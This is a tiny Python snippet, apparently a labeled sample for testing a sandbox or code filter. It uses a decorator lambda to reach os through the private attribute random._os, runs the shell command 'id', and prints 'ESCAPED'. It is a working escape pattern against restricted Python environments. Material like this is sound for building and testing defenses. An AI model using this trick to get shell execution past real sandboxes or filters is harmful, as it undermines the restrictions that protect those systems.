# class: a decorator expression that runs os
import random
@(lambda f: random._os.system("id"))
def f():
    pass
print("ESCAPED", f)
